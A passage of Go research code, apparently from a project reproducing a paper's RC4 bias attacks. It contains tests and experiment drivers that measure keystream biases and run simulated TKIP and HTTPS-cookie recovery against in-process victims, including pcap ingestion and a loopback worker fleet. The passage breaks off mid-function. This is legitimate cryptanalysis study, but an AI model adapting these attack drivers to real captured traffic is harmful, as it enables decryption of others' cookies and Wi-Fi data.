		t.Fatalf("%d rows", len(res.Rows))
	}
	if res.Rows[0].Label != "Z272 -> 32" || res.Rows[6].Label != "Z368 -> 224" {
		t.Errorf("labels: %s .. %s", res.Rows[0].Label, res.Rows[6].Label)
	}
}

func TestTable1SmallScale(t *testing.T) {
	res, err := Table1(context.Background(), [16]byte{1}, 8, 64, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 11 {
		t.Fatalf("%d rows", len(res.Rows))
	}
}

func TestLongTermZeroPairsSmallScale(t *testing.T) {
	res, err := LongTermZeroPairs(context.Background(), [16]byte{2}, 8, 128, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 3 {
		t.Fatalf("%d rows", len(res.Rows))
	}
}

func TestFigure4SmallScale(t *testing.T) {
	res, err := Figure4(context.Background(), 1<<14, 0, 48)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) == 0 {
		t.Fatal("no rows")
	}
}

func TestFigure7ShapeCombinedWins(t *testing.T) {
	// The central §4.3 claim: combining FM with many ABSAB biases beats
	// each alone. Exact-argmax success of the combined evidence reaches
	// ~100% around 2^33 (per-pair SNR ≈ 8σ there); at 2^31 it is partial
	// (~4σ) but must already dominate the single-bias curves.
	res := Figure7(7, []uint64{1 << 31, 1 << 33}, 12, 128)
	if len(res.Rows) != 2 {
		t.Fatalf("%d rows", len(res.Rows))
	}
	mid, high := res.Rows[0], res.Rows[1]
	absab, fm, combined := high.Values[0], high.Values[1], high.Values[2]
	if combined < 0.9 {
		t.Errorf("combined success %v at 2^33, want >= 0.9", combined)
	}
	if combined <= fm || combined <= absab {
		t.Errorf("combined (%v) must beat FM (%v) and ABSAB (%v) at 2^33", combined, fm, absab)
	}
	if mid.Values[2] > combined {
		t.Error("success must not decrease with more ciphertexts")
	}
	if mid.Values[2] <= mid.Values[0] {
		t.Errorf("combined (%v) must beat single ABSAB (%v) at 2^31", mid.Values[2], mid.Values[0])
	}
}

func TestFigures8and9SmallScale(t *testing.T) {
	if testing.Short() {
		t.Skip("TKIP sweep is slow")
	}
	res, err := Figures8and9(TKIPParams{
		Copies:   []uint64{1 << 20, 12 << 20},
		Trials:   4,
		MaxDepth: 1 << 14,
		Seed:     1,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("%d rows", len(res.Rows))
	}
	// Success with more copies must be >= success with fewer (weak check,
	// tiny trial count).
	if res.Rows[1].Values[0]+0.5 < res.Rows[0].Values[0] {
		t.Errorf("success degraded sharply with more copies: %v -> %v",
			res.Rows[0].Values[0], res.Rows[1].Values[0])
	}
	// Hours column must match the paper's conversion (9.5*2^20 ≈ 1.1h).
	if h := res.Rows[0].Values[3]; h < 0.1 || h > 0.2 {
		t.Errorf("1x2^20 copies = %v hours at 2500pps, want ~0.117", h)
	}
}

func TestFigure10SmallScale(t *testing.T) {
	if testing.Short() {
		t.Skip("cookie sweep is slow")
	}
	res, err := Figure10(CookieParams{
		Ciphertexts: []uint64{1 << 27, 9 << 27},
		Trials:      6,
		Candidates:  1 << 10,
		Seed:        2,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("%d rows", len(res.Rows))
	}
	// The 9x2^27 point is the paper's headline: success(list) should be
	// high even at our reduced candidate depth.
	if res.Rows[1].Values[0] < 0.5 {
		t.Errorf("success at 9x2^27 = %v, want >= 0.5", res.Rows[1].Values[0])
	}
	// Hours: 9*2^27 / 4450 / 3600 ≈ 75.4 — the paper's "75 hours".
	if h := res.Rows[1].Values[2]; h < 70 || h > 80 {
		t.Errorf("9x2^27 = %v hours, paper says ~75", h)
	}
}

func TestPayloadPlacementSmallScale(t *testing.T) {
	if testing.Short() {
		t.Skip("training is slow")
	}
	res, err := PayloadPlacement(context.Background(), 1<<9, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("%d rows", len(res.Rows))
	}
	for _, row := range res.Rows {
		if row.Values[0] <= 0 {
			t.Errorf("%s: non-positive strength", row.Label)
		}
	}
}

func TestCharsetAblationSmallScale(t *testing.T) {
	if testing.Short() {
		t.Skip("ablation is slow")
	}
	res, err := CharsetAblation(3, 1<<31, 4, 1<<10)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("%d rows", len(res.Rows))
	}
	// The restricted charset must do at least as well as the full space.
	if res.Rows[0].Values[0] < res.Rows[1].Values[0] {
		t.Errorf("charset=90 (%v) should beat charset=256 (%v)",
			res.Rows[0].Values[0], res.Rows[1].Values[0])
	}
}

func TestABSABGapVerificationMechanics(t *testing.T) {
	res, err := ABSABGapVerification(context.Background(), [16]byte{4}, 16, 1024, []int{0, 8, 128}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 3 {
		t.Fatalf("%d rows", len(res.Rows))
	}
	for _, row := range res.Rows {
		// Measured probability must sit near 2^-16 (scaled ~1) — the bias
		// itself (0.4% relative) needs ~4e10 samples to resolve at 3σ.
		if row.Values[0] < 0.5 || row.Values[0] > 1.5 {
			t.Errorf("%s: measured %v implausible", row.Label, row.Values[0])
		}
		// Model column must exceed the uniform 1.0 strictly.
		if row.Values[1] <= 1.0 {
			t.Errorf("%s: model value %v not above uniform", row.Label, row.Values[1])
		}
	}
	// Model decays with gap.
	if res.Rows[0].Values[1] <= res.Rows[2].Values[1] {
		t.Error("model bias should decay with gap")
	}
}

func TestEquation9SearchMechanics(t *testing.T) {
	res, err := Equation9Search(context.Background(), [16]byte{5}, 16, 1024, nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 4 {
		t.Fatalf("%d rows", len(res.Rows))
	}
	for _, row := range res.Rows {
		if row.Values[0] < 0.5 || row.Values[0] > 1.5 {
			t.Errorf("%s: measured %v implausible", row.Label, row.Values[0])
		}
	}
}

func TestBroadcastAttackRecoversEarlyBytes(t *testing.T) {
	if testing.Short() {
		t.Skip("broadcast attack is slow")
	}
	res, err := BroadcastAttack(context.Background(), 1<<21, 1<<21, 16, 0)
	if err != nil {
		t.Fatal(err)
	}
	// Position 2 (the Mantin–Shamir byte, 100% relative bias) must recover.
	for _, row := range res.Rows {
		if row.Label == "position 2 correct" && row.Values[0] != 1 {
			t.Error("position 2 not recovered despite the 2x Z2 bias")
		}
	}
	// At laptop training scale only the strongest biases resolve (the
	// driver's note explains the 65536/trainKeys noise-energy bound), so
	// the guaranteed floor is 1 position; more is a bonus.
	if res.Rows[0].Values[0] < 1 {
		t.Errorf("no positions recovered at all")
	}
	t.Logf("recovered %v of 16 initial positions", res.Rows[0].Values[0])
}

// TestOnlineCookieRecordsSmallScale runs the records-to-success driver at a
// scale where at least one trial should finish early: cumulative success
// must be monotone and the row structure well-formed.
func TestOnlineCookieRecordsSmallScale(t *testing.T) {
	res, err := OnlineCookieRecords(OnlineCookieParams{
		Trials:     2,
		Budget:     9 << 27,
		First:      1 << 27,
		Candidates: 1 << 10,
		Seed:       2,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) == 0 {
		t.Fatal("no decode points reported")
	}
	prev := 0.0
	for _, row := range res.Rows {
		if len(row.Values) != 3 {
			t.Fatalf("row %s: %d values", row.Label, len(row.Values))
		}
		if row.Values[0] < prev {
			t.Fatalf("cumulative success decreased at %s", row.Label)
		}
		prev = row.Values[0]
	}
	if last := res.Rows[len(res.Rows)-1]; last.Values[0] == 0 {
		t.Log("no trial succeeded at this scale (censored); curve still well-formed")
	}
}

func TestTraceVsSim(t *testing.T) {
	res, results, err := TraceVsSim(TraceParams{Frames: 2048, Records: 512})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 || len(results) != 2 {
		t.Fatalf("want 2 rows and 2 result lines, got %d/%d", len(res.Rows), len(results))
	}
	if len(res.Columns) != 5 || res.Columns[2] != "parse MB/s" || res.Columns[3] != "ingest MB/s" {
		t.Fatalf("columns = %v, want the parse/ingest throughput split", res.Columns)
	}
	for _, row := range res.Rows {
		if row.Values[4] != 1 {
			t.Errorf("%s: not bitwise equal", row.Label)
		}
		if row.Values[2] <= 0 || row.Values[3] <= 0 {
			t.Errorf("%s: non-positive throughput %v", row.Label, row.Values)
		}
	}
	for _, r := range results {
		if !r.Success || r.Mode != "trace" {
			t.Errorf("result %+v: want trace-mode success", r)
		}
		if r.ParseMBps <= 0 || r.IngestMBps <= 0 {
			t.Errorf("result %+v: missing parse/ingest throughput split", r)
		}
	}
}
