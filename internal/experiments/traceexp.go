package experiments

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/packet"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
	"rc4break/internal/trace"
)

// TraceParams controls the trace-versus-sim equivalence experiment.
type TraceParams struct {
	// Frames and Records size the two captures; defaults 2^15 TKIP
	// frames and 2^13 TLS records (a few MB each).
	Frames, Records uint64
	// TrainKeys is the TKIP model's keys per class (default 2^3 — the
	// experiment checks ingest equivalence, not attack success).
	TrainKeys uint64
	Seed      int64
}

func (p TraceParams) withDefaults() TraceParams {
	if p.Frames == 0 {
		p.Frames = 1 << 15
	}
	if p.Records == 0 {
		p.Records = 1 << 13
	}
	if p.TrainKeys == 0 {
		p.TrainKeys = 8
	}
	if p.Seed == 0 {
		p.Seed = 41
	}
	return p
}

// TraceVsSim is the trace-ingestion subsystem's experiment-level witness:
// for each attack it captures one stream twice — directly in-process, and
// through the full sim → pcap → parse → reassemble → ingest round trip —
// and verifies the two evidence snapshots are bitwise identical, reporting
// the capture size and ingest throughput alongside. Any divergence is an
// error, not a table row. The returned RunResult lines (one per attack)
// are the machine-readable form the drivers' -json flag emits.
func TraceVsSim(p TraceParams) (Result, []cliutil.RunResult, error) {
	p = p.withDefaults()
	var rows []Row
	var results []cliutil.RunResult

	// §5 side: TKIP frames through radiotap/802.11 into per-TSC counts.
	msduLen := packet.HeaderSize + 7
	model, err := tkip.Train(tkip.TrainConfig{
		Positions:  msduLen + tkip.TrailerSize,
		KeysPerTSC: p.TrainKeys,
		Master:     [16]byte{0x7A},
	})
	if err != nil {
		return Result{}, nil, err
	}
	session := tkip.DemoSession()
	newTKIP := func() (*tkip.Attack, error) {
		return tkip.NewAttack(model, tkip.TrailerPositions(msduLen))
	}
	direct, err := newTKIP()
	if err != nil {
		return Result{}, nil, err
	}
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	sniffer := netsim.NewSniffer(victim.FrameLen())
	for i := uint64(0); i < p.Frames; i++ {
		if f := victim.Transmit(); sniffer.Filter(f) {
			direct.Observe(f)
		}
	}
	var capture bytes.Buffer
	pw, err := trace.NewPcapWriter(&capture, trace.LinkTypeRadiotap)
	if err != nil {
		return Result{}, nil, err
	}
	fw, err := netsim.NewFrameWriter(pw, trace.LinkTypeRadiotap, session)
	if err != nil {
		return Result{}, nil, err
	}
	if err := netsim.NewWiFiVictim(session, tkip.DemoPayload).WriteTrace(fw, p.Frames); err != nil {
		return Result{}, nil, err
	}
	ingested, err := newTKIP()
	if err != nil {
		return Result{}, nil, err
	}
	start := time.Now()
	stats, err := tkip.CollectTraceReaders(ingested, victim.FrameLen(),
		[]io.Reader{bytes.NewReader(capture.Bytes())}, 0, 0, false)
	ingestTime := time.Since(start)
	if err != nil {
		return Result{}, nil, err
	}
	if stats.Matched != p.Frames {
		return Result{}, nil, fmt.Errorf("trace: TKIP ingest matched %d of %d frames", stats.Matched, p.Frames)
	}
	equal, err := snapshotsEqual(direct.WriteSnapshot, ingested.WriteSnapshot)
	if err != nil {
		return Result{}, nil, err
	}
	if !equal {
		return Result{}, nil, errors.New("trace: TKIP evidence ingested from pcap differs from direct capture")
	}
	// Parse-only pass over the same capture: the ceiling the pipeline hits
	// with no attack to fold into.
	start = time.Now()
	if _, err := tkip.CollectTraceReaders(nil, victim.FrameLen(),
		[]io.Reader{bytes.NewReader(capture.Bytes())}, 0, 0, false); err != nil {
		return Result{}, nil, err
	}
	parseTime := time.Since(start)
	mb := float64(capture.Len()) / (1 << 20)
	rows = append(rows, Row{Label: "tkip (radiotap pcap)", Values: []float64{
		float64(p.Frames), mb, mb / parseTime.Seconds(), mb / ingestTime.Seconds(), 1,
	}})
	results = append(results, cliutil.RunResult{
		Attack:       "tkip",
		Mode:         "trace",
		Success:      true,
		Observations: p.Frames,
		ParseMBps:    mb / parseTime.Seconds(),
		IngestMBps:   mb / ingestTime.Seconds(),
		CaptureMS:    float64(ingestTime.Microseconds()) / 1000,
		ElapsedMS:    float64(ingestTime.Microseconds()) / 1000,
	})

	// §6 side: TLS records through Ethernet/TCP reassembly into
	// digraph/ABSAB statistics.
	const secret = "Secur3C00kieVal+"
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		return Result{}, nil, err
	}
	cfg := cookieattack.Config{
		CookieLen:   len(secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}
	master := make([]byte, 48)
	rand.New(rand.NewSource(p.Seed)).Read(master)
	newVictim := func() (*netsim.HTTPSVictim, error) {
		return netsim.NewHTTPSVictim(master, req)
	}
	directC, err := cookieattack.New(cfg)
	if err != nil {
		return Result{}, nil, err
	}
	cv, err := newVictim()
	if err != nil {
		return Result{}, nil, err
	}
	collector := &tlsrec.CollectRequests{WantLen: cv.RecordPlaintextLen()}
	var observeErr error
	for i := uint64(0); i < p.Records; i++ {
		rec := cv.SendRequest()
		if err := collector.Feed(rec, func(body []byte) {
			if oerr := directC.ObserveRecord(body); oerr != nil && observeErr == nil {
				observeErr = oerr
			}
		}); err != nil {
			return Result{}, nil, err
		}
	}
	if observeErr != nil {
		return Result{}, nil, observeErr
	}
	var captureC bytes.Buffer
	pwC, err := trace.NewPcapNGWriter(&captureC, trace.LinkTypeEthernet)
	if err != nil {
		return Result{}, nil, err
	}
	sw, err := netsim.NewStreamWriter(pwC, trace.LinkTypeEthernet)
	if err != nil {
		return Result{}, nil, err
	}
	wv, err := newVictim()
	if err != nil {
		return Result{}, nil, err
	}
	if err := wv.WriteTrace(sw, p.Records); err != nil {
		return Result{}, nil, err
	}
	ingestedC, err := cookieattack.New(cfg)
	if err != nil {
		return Result{}, nil, err
	}
	start = time.Now()
	statsC, err := cookieattack.CollectTraceReaders(ingestedC, cv.RecordPlaintextLen(),
		[]io.Reader{bytes.NewReader(captureC.Bytes())}, 0, 0, false)
	ingestTimeC := time.Since(start)
	if err != nil {
		return Result{}, nil, err
	}
	if statsC.Matched != p.Records {
		return Result{}, nil, fmt.Errorf("trace: TLS ingest matched %d of %d records", statsC.Matched, p.Records)
	}
	equal, err = snapshotsEqual(directC.WriteSnapshot, ingestedC.WriteSnapshot)
	if err != nil {
		return Result{}, nil, err
	}
	if !equal {
		return Result{}, nil, errors.New("trace: cookie evidence ingested from pcapng differs from direct capture")
	}
	start = time.Now()
	if _, err := cookieattack.CollectTraceReaders(nil, cv.RecordPlaintextLen(),
		[]io.Reader{bytes.NewReader(captureC.Bytes())}, 0, 0, false); err != nil {
		return Result{}, nil, err
	}
	parseTimeC := time.Since(start)
	mbC := float64(captureC.Len()) / (1 << 20)
	rows = append(rows, Row{Label: "cookie (ethernet pcapng)", Values: []float64{
		float64(p.Records), mbC, mbC / parseTimeC.Seconds(), mbC / ingestTimeC.Seconds(), 1,
	}})
	results = append(results, cliutil.RunResult{
		Attack:       "cookie",
		Mode:         "trace",
		Success:      true,
		Observations: p.Records,
		ParseMBps:    mbC / parseTimeC.Seconds(),
		IngestMBps:   mbC / ingestTimeC.Seconds(),
		CaptureMS:    float64(ingestTimeC.Microseconds()) / 1000,
		ElapsedMS:    float64(ingestTimeC.Microseconds()) / 1000,
	})

	return Result{
		ID:    "Trace §5.4/§6.3",
		Title: "Trace ingestion vs in-process capture (sim → pcap → ingest round trip)",
		Columns: []string{
			"observations", "capture MB", "parse MB/s", "ingest MB/s", "bitwise equal",
		},
		Rows: rows,
		Notes: "equal=1 certifies the ingested evidence is byte-identical to direct capture; " +
			"parse MB/s is the same pipeline with no attack attached (its parse-bound ceiling), " +
			"so the parse-vs-ingest gap is the batched evidence fold's cost per capture byte",
	}, results, nil
}

// snapshotsEqual compares two snapshot writers byte for byte.
func snapshotsEqual(a, b func(io.Writer) error) (bool, error) {
	var ba, bb bytes.Buffer
	if err := a(&ba); err != nil {
		return false, err
	}
	if err := b(&bb); err != nil {
		return false, err
	}
	return bytes.Equal(ba.Bytes(), bb.Bytes()), nil
}
