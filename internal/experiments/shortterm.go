package experiments

import (
	"context"
	"math"

	"rc4break/internal/biases"
	"rc4break/internal/dataset"
	"rc4break/internal/stats"
)

// Table2 re-estimates the Table 2 pair biases (consecutive key-length rows
// and non-consecutive rows) with `keys` random 16-byte keys, reporting the
// measured probability against the paper's value. The paper used 2^44–2^45
// keys; sign agreement and magnitude ordering are the reproducible shape at
// laptop scale.
func Table2(ctx context.Context, keys uint64, workers int) (Result, error) {
	all := append(append([]biases.PairBias{}, biases.ConsecutiveKeyLengthBiases...),
		biases.NonConsecutiveBiases...)
	cells := make([]dataset.PairCell, len(all))
	for i, b := range all {
		cells[i] = dataset.PairCell{A: b.A, B: b.B, X: b.X, Y: b.Y}
	}
	tp, err := dataset.NewTargetedPairs(cells)
	if err != nil {
		return Result{}, err
	}
	obs, err := dataset.Run(dataset.Config{Keys: keys, Workers: workers, Ctx: ctx},
		func() dataset.Observer {
			t, _ := dataset.NewTargetedPairs(cells)
			return t
		})
	if err != nil {
		return Result{}, err
	}
	tp = obs.(*dataset.TargetedPairs)

	res := Result{
		ID:      "Table 2",
		Title:   "Biases between (non-)consecutive bytes",
		Columns: []string{"measured*2^16", "paper*2^16", "z-vs-uniform"},
		Notes:   "z is the proportion-test statistic against the uniform 2^-16; magnitudes need ~2^40+ keys to resolve exactly, signs and strong rows resolve sooner",
	}
	for i, b := range all {
		meas := tp.Probability(i)
		var z float64
		if r, err := stats.ProportionTest(tp.Counts[i], tp.Keys, biases.UPair); err == nil {
			z = r.Statistic
		}
		label := pairLabel(b)
		res.Rows = append(res.Rows, Row{
			Label:  label,
			Values: []float64{meas * 65536, b.P() * 65536, z},
		})
	}
	return res, nil
}

func pairLabel(b biases.PairBias) string {
	return "Z" + itoa(b.A) + "=" + itoa(int(b.X)) + " & Z" + itoa(b.B) + "=" + itoa(int(b.Y))
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var digits []byte
	for n > 0 {
		digits = append([]byte{byte('0' + n%10)}, digits...)
		n /= 10
	}
	return string(digits)
}

// Equalities reproduces eqs. 3–5: Pr[Z1=Z3], Pr[Z1=Z4], Pr[Z2=Z4].
// The relative biases are 2^-8.59..2^-9.62, resolvable at ~2^30 keys; at
// smaller scales the z column shows the direction of the evidence.
func Equalities(ctx context.Context, keys uint64, workers int) (Result, error) {
	as := make([]int, len(biases.EqualityBiases))
	bs := make([]int, len(biases.EqualityBiases))
	for i, e := range biases.EqualityBiases {
		as[i], bs[i] = e.A, e.B
	}
	obs, err := dataset.Run(dataset.Config{Keys: keys, Workers: workers, Ctx: ctx},
		func() dataset.Observer {
			e, _ := dataset.NewEqualityCounts(as, bs)
			return e
		})
	if err != nil {
		return Result{}, err
	}
	eq := obs.(*dataset.EqualityCounts)
	res := Result{
		ID:      "Eqs. 3-5",
		Title:   "Equality biases Pr[Za = Zb]",
		Columns: []string{"measured*2^8", "paper*2^8", "z-vs-uniform"},
	}
	for i, e := range biases.EqualityBiases {
		meas := eq.Probability(i)
		var z float64
		if r, err := stats.ProportionTest(eq.Counts[i], eq.Keys, biases.USingle); err == nil {
			z = r.Statistic
		}
		res.Rows = append(res.Rows, Row{
			Label:  "Z" + itoa(e.A) + " = Z" + itoa(e.B),
			Values: []float64{meas * 256, e.P * 256, z},
		})
	}
	return res, nil
}

// Figure5 measures the six §3.3.2 bias families induced by Z1 and Z2 at a
// sample of target positions i, reporting the relative bias q of each pair
// against its single-byte-expected probability (the paper's y-axis).
// Positive q for families 1/2/4, negative for 3/5/6, is the shape.
func Figure5(ctx context.Context, keys uint64, workers int, positions []int) (Result, error) {
	if len(positions) == 0 {
		positions = []int{16, 32, 64, 96, 128, 160, 192, 224, 256}
	}
	sets := []biases.Z1Z2Set{
		biases.SetZ1_257mI_Zi0, biases.SetZ1_257mI_ZiI, biases.SetZ1_257mI_Zi257m,
		biases.SetZ1_Im1_Zi1, biases.SetZ2_0_Zi0, biases.SetZ2_0_ZiI,
	}
	var cells []dataset.PairCell
	for _, i := range positions {
		for _, s := range sets {
			a, x, b, y := s.Cell(i)
			cells = append(cells, dataset.PairCell{A: a, X: x, B: b, Y: y})
		}
	}
	maxPos := positions[len(positions)-1]
	obs, err := dataset.Run(dataset.Config{Keys: keys, Workers: workers, Ctx: ctx},
		func() dataset.Observer {
			m := &dataset.Multi{}
			t, _ := dataset.NewTargetedPairs(cells)
			m.Observers = append(m.Observers, t, dataset.NewSingleByteCounts(maxPos))
			return m
		})
	if err != nil {
		return Result{}, err
	}
	multi := obs.(*dataset.Multi)
	tp := multi.Observers[0].(*dataset.TargetedPairs)
	sb := multi.Observers[1].(*dataset.SingleByteCounts)

	res := Result{
		ID:      "Figure 5",
		Title:   "Relative bias q of Z1/Z2-induced pairs (sets 1-6 per column)",
		Columns: []string{"set1", "set2", "set3", "set4", "set5", "set6"},
		Notes:   "q = s/p - 1 with p from single-byte marginals; paper shape: sets 1,2,4 positive, sets 3,5,6 negative",
	}
	ci := 0
	for _, i := range positions {
		vals := make([]float64, len(sets))
		for si, s := range sets {
			a, x, b, y := s.Cell(i)
			expected := sb.Probability(a, x) * sb.Probability(b, y)
			vals[si] = stats.RelativeBias(tp.Probability(ci), expected)
			_ = s
			ci++
		}
		res.Rows = append(res.Rows, Row{Label: "i=" + itoa(i), Values: vals})
	}
	return res, nil
}

// Figure6 estimates single-byte probabilities beyond position 256: the
// key-length biases Z_{256+16k} toward 32k (k = 1..7) plus the positions
// the paper plots (272, 304, 336, 368). Reported: Pr[Z_pos = 32k]·256 and
// the chi-squared p-value for uniformity of the position.
func Figure6(ctx context.Context, keys uint64, workers int) (Result, error) {
	const maxPos = 368
	obs, err := dataset.Run(dataset.Config{Keys: keys, Workers: workers, Ctx: ctx},
		func() dataset.Observer { return dataset.NewSingleByteCounts(maxPos) })
	if err != nil {
		return Result{}, err
	}
	sb := obs.(*dataset.SingleByteCounts)
	res := Result{
		ID:      "Figure 6",
		Title:   "Single-byte biases beyond position 256 (key-length family)",
		Columns: []string{"Pr[Z=32k]*256", "uniform=1", "chi2-p(log10)"},
		Notes:   "paper: each Z_{256+16k} biased toward 32k; detectability needs ~2^30+ keys per the paper's 2^47",
	}
	for k := 1; k <= 7; k++ {
		pos, val := biases.SingleByteKeyLengthBias(k)
		p := sb.Probability(pos, val)
		var logp float64 = math.NaN()
		if r, err := stats.ChiSquareUniform(sb.Position(pos)); err == nil && r.P > 0 {
			logp = math.Log10(r.P)
		}
		res.Rows = append(res.Rows, Row{
			Label:  "Z" + itoa(pos) + " -> " + itoa(int(val)),
			Values: []float64{p * 256, 1, logp},
		})
	}
	return res, nil
}

// ConsecutiveEq2 verifies the eq. 2 family (Table 2's consecutive rows)
// with direct targeted counting, reporting measured versus paper values of
// Pr[Z_{16w-1} = Z_{16w} = 256-16w].
func ConsecutiveEq2(ctx context.Context, keys uint64, workers int) (Result, error) {
	var cells []dataset.PairCell
	for _, b := range biases.ConsecutiveKeyLengthBiases {
		cells = append(cells, dataset.PairCell{A: b.A, B: b.B, X: b.X, Y: b.Y})
	}
	obs, err := dataset.Run(dataset.Config{Keys: keys, Workers: workers, Ctx: ctx},
		func() dataset.Observer {
			t, _ := dataset.NewTargetedPairs(cells)
			return t
		})
	if err != nil {
		return Result{}, err
	}
	tp := obs.(*dataset.TargetedPairs)
	res := Result{
		ID:      "Eq. 2",
		Title:   "Key-length digraphs Pr[Z_{16w-1} = Z_{16w} = 256-16w]",
		Columns: []string{"measured*2^16", "paper*2^16"},
	}
	for i, b := range biases.ConsecutiveKeyLengthBiases {
		res.Rows = append(res.Rows, Row{
			Label:  "w=" + itoa(i+1),
			Values: []float64{tp.Probability(i) * 65536, b.P() * 65536},
		})
	}
	return res, nil
}
