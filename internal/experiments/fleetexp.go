package experiments

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/fleet"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
)

// FleetParams controls the fleet-versus-single-process comparison.
type FleetParams struct {
	// Workers is the fleet's worker count; default 3.
	Workers int
	// Budget, LaneRecords and First shape the job; defaults 9·2^27 records
	// in 2^27-record lanes with the first decode at 2^27.
	Budget, LaneRecords, First uint64
	// Candidates is the per-round list depth; default 2^13.
	Candidates int
	// Secret is the cookie under attack; default an 8-character cookie (a
	// scale where the online loop confirms mid-run on one laptop).
	Secret string
	Seed   int64
	MaxGap int
	// DecodeWorkers bounds decode parallelism (0 = GOMAXPROCS).
	DecodeWorkers int
}

func (p FleetParams) withDefaults() FleetParams {
	if p.Workers == 0 {
		p.Workers = 3
	}
	if p.Budget == 0 {
		p.Budget = 9 << 27
	}
	if p.LaneRecords == 0 {
		p.LaneRecords = 1 << 27
	}
	if p.First == 0 {
		p.First = 1 << 27
	}
	if p.Candidates == 0 {
		p.Candidates = 1 << 13
	}
	if p.Secret == "" {
		p.Secret = "C00kie8+"
	}
	if p.Seed == 0 {
		p.Seed = 1
	}
	if p.MaxGap == 0 {
		p.MaxGap = 128
	}
	return p
}

// FleetVsSingle runs the §6 online cookie attack twice over identical lane
// evidence — once as a single process, once as a coordinator with an
// in-process worker fleet on loopback TCP — and reports both records-to-
// first-success outcomes side by side. The two runs must agree exactly
// (same success point, same rank, bitwise-identical merged evidence); any
// divergence is returned as an error, making this the experiment-level
// witness of the fleet's determinism guarantee, and the wall-clock column
// shows what the fleet layer itself costs.
func FleetVsSingle(p FleetParams) (Result, error) {
	p = p.withDefaults()
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", p.Secret, 64)
	if err != nil {
		return Result{}, err
	}
	cfg := cookieattack.Config{
		CookieLen:   len(p.Secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      p.MaxGap,
		Charset:     httpmodel.CookieCharset(),
	}
	job := fleet.JobSpec{
		Attack:      "cookie",
		Mode:        "model",
		Seed:        p.Seed,
		Budget:      p.Budget,
		LaneRecords: p.LaneRecords,
	}
	cad := online.Cadence{First: p.First}
	newAttack := func() (*cookieattack.Attack, error) {
		a, err := cookieattack.New(cfg)
		if err != nil {
			return nil, err
		}
		a.Workers = p.DecodeWorkers
		return a, nil
	}
	snap := func(a *cookieattack.Attack) ([]byte, error) {
		var buf bytes.Buffer
		err := a.WriteSnapshot(&buf)
		return buf.Bytes(), err
	}

	// Single-process run: same lanes, same order, no network.
	single, err := newAttack()
	if err != nil {
		return Result{}, err
	}
	lane := uint64(0)
	t0 := time.Now()
	singleRes, singleErr := online.Run(online.Config{
		Decoder:       single,
		Oracle:        &netsim.CookieServer{Secret: []byte(p.Secret)},
		Cadence:       cad,
		MaxCandidates: p.Candidates,
		Budget:        job.Budget,
		Feed: online.FeedFunc(func(target uint64) error {
			for single.Records < target && lane < job.Lanes() {
				_, records := job.LaneExtent(lane)
				shard, err := cookieattack.CollectLane(cfg, []byte(p.Secret), job.LaneStream(lane),
					cliutil.LaneSeed(job.Seed, lane), records, p.DecodeWorkers)
				if err != nil {
					return err
				}
				if err := single.Merge(shard); err != nil {
					return err
				}
				lane++
			}
			return nil
		}),
	})
	singleTime := time.Since(t0)
	if singleErr != nil && !errors.Is(singleErr, online.ErrBudgetExhausted) {
		return Result{}, singleErr
	}

	// Fleet run: coordinator plus p.Workers workers over loopback TCP.
	pool, err := newAttack()
	if err != nil {
		return Result{}, err
	}
	job.Fingerprint = pool.Fingerprint()
	coord, err := fleet.NewCoordinator(fleet.Config{
		Job:           job,
		Pool:          &fleet.CookiePool{Attack: pool},
		Oracle:        &netsim.CookieServer{Secret: []byte(p.Secret)},
		Cadence:       cad,
		MaxCandidates: p.Candidates,
		LeaseTTL:      30 * time.Second,
	})
	if err != nil {
		return Result{}, err
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return Result{}, err
	}
	coord.Serve(l)
	defer coord.Close()

	var wg sync.WaitGroup
	workerErrs := make([]error, p.Workers)
	for i := 0; i < p.Workers; i++ {
		i := i
		wg.Add(1)
		go func() {
			defer wg.Done()
			w := &fleet.Worker{
				Addr:        l.Addr().String(),
				ID:          fmt.Sprintf("w%d", i+1),
				Attack:      "cookie",
				Fingerprint: job.Fingerprint,
				MaxWait:     100 * time.Millisecond,
				Collect: func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
					a, err := cookieattack.CollectLane(cfg, []byte(p.Secret), lease.Stream,
						cliutil.LaneSeed(job.Seed, lease.Lane), lease.Records, p.DecodeWorkers)
					if err != nil {
						return nil, err
					}
					return snap(a)
				},
			}
			_, workerErrs[i] = w.Run(context.Background())
		}()
	}
	t0 = time.Now()
	fleetRes, fleetErr := coord.Run(context.Background())
	fleetTime := time.Since(t0)
	wg.Wait()
	for i, werr := range workerErrs {
		if werr != nil {
			return Result{}, fmt.Errorf("fleet worker %d: %w", i+1, werr)
		}
	}
